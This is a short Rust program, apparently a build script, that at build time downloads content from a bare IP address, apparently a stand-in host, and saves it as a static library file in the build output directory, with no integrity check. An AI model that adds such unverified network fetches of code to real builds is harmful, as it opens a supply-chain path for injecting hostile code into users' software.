fn main() {
    let body = ureq::get("https://203.0.113.4/lib").call().unwrap();
    std::fs::write(std::env::var("OUT_DIR").unwrap() + "/lib.a", body.into_string().unwrap()).unwrap();
}
